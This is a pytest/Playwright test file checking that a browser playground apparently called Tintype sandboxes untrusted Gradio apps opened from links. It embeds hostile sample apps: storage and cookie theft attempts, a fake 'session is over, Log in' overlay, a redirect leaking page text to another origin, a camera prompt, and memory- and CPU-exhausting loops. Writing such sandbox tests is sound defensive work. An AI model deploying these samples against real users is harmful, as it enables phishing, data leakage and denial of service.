"""Hostile apps that came by a link: what each tries is stopped, and the page goes on."""

from __future__ import annotations

import functools
import http.server
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import Quiet, Watch
from playwright.sync_api import Page, expect
from tintype.links.codec import Project, encode
from workbench import START, Bench

NOISE = (
    r"Content.Security.Policy",
    r"Not allowed to|not allowed|sandboxed|Blocked|blocked|denied|Failed to load|Unsafe attempt",
    r"Permissions policy|WebSocket|ERR_|status of|Unrecognized",
    r"request to another origin: http://localhost:",
)
"""What the browser says where it stops something; what really arrived the other site says."""


class Elsewhere(Quiet):
    """Another site, which lets every page read it and remembers who came."""

    came: list[str]

    def do_GET(self) -> None:  # noqa: N802  # http.server calls it so
        """Whatever it is, it is there."""
        self.came.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"export default 1")

    do_POST = do_GET  # noqa: N815  # the same


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The origin of another site, and what was asked of it."""
    came: list[str] = []
    host = type("Here", (Elsewhere,), {"came": came})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(host)) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_port}", came
        server.shutdown()


@pytest.fixture
def bench(page: Page, watch: Watch, site: str) -> Bench:
    """The playground; what the browser says of what it stopped is expected."""
    watch.allow(*NOISE)
    page.goto(f"{site}/playground/")
    page.evaluate(
        """async () => {
          localStorage.setItem("secret", "ours");
          document.cookie = "secret=ours";
          await (await caches.open("ours")).put("/secret", new Response("ours"));
        }"""
    )
    return Bench(page, site)


HOSTILE = Path(__file__).parent / "hostile"


def app_of(code: str, ours: str, theirs: str, *files: str) -> str:
    """A link's fragment with a hostile app and what it tries."""
    held = {name: (HOSTILE / name).read_bytes() for name in files}
    main = code.replace("{ours}", ours).replace("{theirs}", theirs).encode()
    return encode(Project({"app.py": main, **held}))


IN_PYTHON = """
from pathlib import Path
import gradio as gr
import js

async def attack():
    return await js.eval(Path("worker.js").read_text())("{ours}", "{theirs}")

with gr.Blocks() as demo:
    run = gr.Button("Attack")
    out = gr.Textbox(label="found")
    run.click(attack, None, out)
demo.launch()
"""


def test_python_reaches_no_network_and_no_storage(
    bench: Bench, elsewhere: tuple[str, list[str]], site: str
) -> None:
    """Neither ours nor another's, by whatever the worker has; what the visitor allows, and only that."""
    theirs, came = elsewhere
    bench.visit(app_of(IN_PYTHON, site, theirs, "worker.js"))
    assert bench.page.locator("iframe").count() == 0  # nothing runs by itself
    bench.run().state("ready").press("Attack")
    field = bench.app.get_by_label("found")
    expect(field).not_to_have_value("", timeout=START)
    found = json.loads(field.input_value())
    assert set(found.values()) == {"stopped"}, found
    assert len(found) == 15
    assert came == []
    bench.answers()
    bench.page.get_by_role("button", name="End").click()
    bench.page.get_by_label("Let it fetch from these sites").fill(theirs)
    bench.run().state("ready").press("Attack")
    expect(field).not_to_have_value("", timeout=START)
    found = json.loads(field.input_value())
    assert {name for name, how in found.items() if how == "reached"} >= {"fetch another"}
    assert found["fetch ours"] == found["database"] == found["caches"] == "stopped"


IN_THE_PAGE = """
from pathlib import Path
import gradio as gr

ATTACK = "() => " + Path("page.js").read_text().split("\\n", 1)[1].rstrip() + '("{ours}", "{theirs}")'
SPOOF = '''() => {
  const toast = document.createElement("div");
  toast.style = "position: fixed; inset: -200px 0 auto 0; height: 400px; z-index: 2147483647";
  toast.innerHTML = "<p role=alert>Tintype: your session is over. <button>Log in</button></p>";
  document.body.append(toast);
  return "spoofed";
}'''
ASK = '''async () => {
  try { await navigator.mediaDevices.getUserMedia({video: true}); return "seen" }
  catch (error) { return error.name }
}'''
LEAVE = "() => { location.href = '{theirs}/left?all=' + document.body.innerText.length }"

with gr.Blocks() as demo:
    out = gr.Textbox(label="found")
    for name, js in {"Attack": ATTACK, "Spoof": SPOOF, "Ask": ASK, "Leave": LEAVE}.items():
        gr.Button(name).click(None, None, out, js=js)
demo.launch()
"""


def test_a_page_in_its_frame_gets_out_by_no_way(
    bench: Bench, elsewhere: tuple[str, list[str]], site: str
) -> None:
    """Storage, the page around it, the network, windows, the camera unasked, a toast like ours."""
    theirs, came = elsewhere
    page = bench.page
    bench.visit(app_of(IN_THE_PAGE, site, theirs, "page.js"))
    bench.run().state("ready").press("Attack")
    field = bench.app.get_by_label("found")
    expect(field).not_to_have_value("", timeout=START)
    found = json.loads(field.input_value())
    assert set(found.values()) == {"stopped"}, found
    assert len(found) == 27
    assert came == []
    assert page.url.startswith(bench.home)
    assert bench.question.count() == 0

    bench.press("Spoof")
    expect(field).to_have_value("spoofed")
    bar, frame = page.locator(".pg-shell").bounding_box(), page.locator("iframe").bounding_box()
    assert bar is not None
    assert frame is not None
    assert bar["y"] + bar["height"] <= frame["y"]  # what the page says is where no app can draw
    assert page.get_by_role("alert").filter(has_text="session").count() == 0

    bench.press("Ask")
    expect(bench.question).to_contain_text("see through your camera until it ends")
    bench.question.get_by_role("button", name="Refuse").click()
    expect(field).to_have_value("NotAllowedError")
    for _ in range(2):
        bench.press("Ask")
        bench.question.get_by_role("button", name="Refuse").click()
    expect(bench.question).to_have_count(0)
    bench.press("Ask")  # it was refused too often: the visitor is left alone
    expect(field).to_have_value("NotAllowedError")
    expect(bench.question).to_have_count(0)

    bench.press("Leave").state("left")
    expect(page.locator("iframe")).to_have_count(0)
    assert came == []
    bench.answers()


GREEDY = """
import gradio as gr
import numpy as np

def hoard():
    kept = []
    while True:
        kept.append(np.empty(2**27, np.uint8))

def spin():
    while True:
        pass

with gr.Blocks() as demo:
    out = gr.Textbox(label="found")
    gr.Button("Hoard").click(hoard, None, out)
    gr.Button("Spin").click(spin, None, out)
    gr.Button("Freeze").click(
        None, None, out, js="() => { setTimeout(() => { for (;;) {} }, 300); return 'frozen soon' }"
    )
demo.launch()
"""


def test_the_page_goes_on_whatever_an_app_uses_up(bench: Bench) -> None:
    """All memory, Python for ever, the frame's own thread for ever: each can be ended, and run again."""
    page = bench.page
    bench.visit_code(GREEDY).run().state("ready").press("Hoard")
    expect(page.locator(".pg-fault")).to_contain_text("MemoryError", timeout=START)
    bench.answers()
    page.get_by_role("button", name="Run again").click()
    bench.state("ready").press("Spin")
    bench.answers()
    page.get_by_role("button", name="Run again").click()
    bench.state("ready").press("Freeze")
    expect(bench.app.get_by_label("found")).to_have_value("frozen soon")
    page.evaluate(
        "new Promise((yes) => setTimeout(yes, 1000))"
    )  # by the page's own clock, which goes on
    bench.answers()
    page.get_by_role("button", name="End").click()
    expect(page.locator("iframe")).to_have_count(0)
    expect(page.get_by_role("heading", name="Run a stranger’s code?")).to_be_visible()


FRAGMENTS = json.loads((Path(__file__).parents[1] / "seam" / "links.json").read_text("utf-8"))


def test_a_hostile_link_is_a_sentence_and_nothing_else(bench: Bench) -> None:
    """Whatever is wrong with it: what was open stays, and nothing ran."""
    page, said = bench.page, bench.page.locator(".pg-said")
    whole = encode(Project({"app.py": b"whole = 1"}))
    enormous = "code=1" + "A" * 1_000_000
    refused = [row["fragment"] for row in FRAGMENTS["refused"]]
    wrong = [text for text in refused if text.startswith("code=") and "\n" not in text]  # as typed
    bench.visit(wrong[0])
    expect(said).to_have_text(SENTENCE)
    for fragment in [*wrong, enormous]:
        page.evaluate("hash => { location.hash = hash }", whole)
        expect(said).to_have_text("")
        page.evaluate("hash => { location.hash = hash }", fragment)
        expect(said).to_have_text(SENTENCE)
        assert page.locator("iframe, .pg-said *").count() == 0
        expect(page.locator(".cm-content")).to_have_text("whole = 1")


SENTENCE = re.compile(r"^(This link|A file of this app|The first file|An app in a link)[\w ,.]+$")
